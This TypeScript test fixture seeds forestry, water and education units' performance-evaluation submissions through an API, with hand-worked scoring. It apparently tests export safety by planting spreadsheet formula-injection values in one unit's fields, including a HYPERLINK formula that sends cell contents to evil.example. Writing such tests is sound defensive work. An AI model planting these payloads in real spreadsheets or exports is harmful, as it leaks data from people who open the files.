// A small year, seeded through the API the way units and finance do it, whose consolidated figures
// are worked out by hand in the tests:
//
//   U-A 林业局   P1 target approved; P1 selfEval submitted (99.6, 优); P2 selfEval draft (87, 良);
//                P1 monitor draft (one red row, one yellow row)
//   U-B 水利局 (涉密)  P9 target draft, with formula-looking text typed in its free text
//   U-C 教育局   nothing
import { expect } from "vitest";
import { formOf, YEAR, type TestEnv } from "../server/helpers.ts";

export const HOSTILE = {
  projectName: '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
  annual: "+1 完成全年任务，确保资金安全使用，按期完成建设。",
  indicator: "@SUM(A1:A9)",
};

type Kind = "target" | "monitor" | "selfEval";

export async function put(env: TestEnv, token: string, kind: Kind, unit: string, project: string, form: unknown): Promise<void> {
  const res = await env.req("PUT", `/api/submissions/${YEAR}/${unit}/${project}/${kind}`, { token, body: form });
  expect(res.status, await res.clone().text()).toBeLessThan(300);
}

export async function post(env: TestEnv, token: string, kind: Kind, unit: string, project: string, action: "submit" | "approve"): Promise<void> {
  const res = await env.req("POST", `/api/submissions/${YEAR}/${unit}/${project}/${kind}/${action}`, { token });
  expect(res.status, await res.clone().text()).toBe(200);
}

/** Sets `field` on the indicator row named `name`. */
export function setRow(form: any, name: string, field: string, value: unknown): void {
  const row = form.indicators.find((r: any) => r.name === name);
  if (!row) throw new Error(`no row ${name}`);
  row[field] = value;
}

export async function seedYear(env: TestEnv): Promise<void> {
  const { unitA, unitB, finance } = env.tokens;
  await env.store.putUnit({ code: "U-C", name: "教育局", field: "education", confidential: false });

  await put(env, unitA, "target", "U-A", "P1", formOf("target", "U-A", "P1"));
  await post(env, unitA, "target", "U-A", "P1", "submit");
  await post(env, finance, "target", "U-A", "P1", "approve");

  await put(env, unitA, "selfEval", "U-A", "P1", formOf("selfEval", "U-A", "P1"));
  await post(env, unitA, "selfEval", "U-A", "P1", "submit");

  const p2: any = formOf("selfEval", "U-A", "P2");
  setRow(p2, "森林管护面积", "actual", 40); // 15 × 40/50 = 12
  setRow(p2, "森林火灾受害率", "actual", 0.6); // ≤ 0.5: 15 × (1 − 0.1/0.5) = 12
  setRow(p2, "林农满意度", "actual", 45); // 10 × 45/90 = 5
  p2.budget.executed = 400; // 400/500 × 10 = 8
  await put(env, unitA, "selfEval", "U-A", "P2", p2);

  const mon: any = formOf("monitor", "U-A", "P1");
  setRow(mon, "森林管护面积", "toDate", 10); // 10/50 ÷ 6/12 = 0.4: red
  setRow(mon, "当年造林成活率", "toDate", 30); // 30/90 ÷ 0.5 = 0.667: yellow
  await put(env, unitA, "monitor", "U-A", "P1", mon);

  const b: any = formOf("target", "U-B", "P9");
  b.project.name = HOSTILE.projectName;
  b.goals.annual = HOSTILE.annual;
  b.indicators[0].name = HOSTILE.indicator;
  await put(env, unitB, "target", "U-B", "P9", b);
}
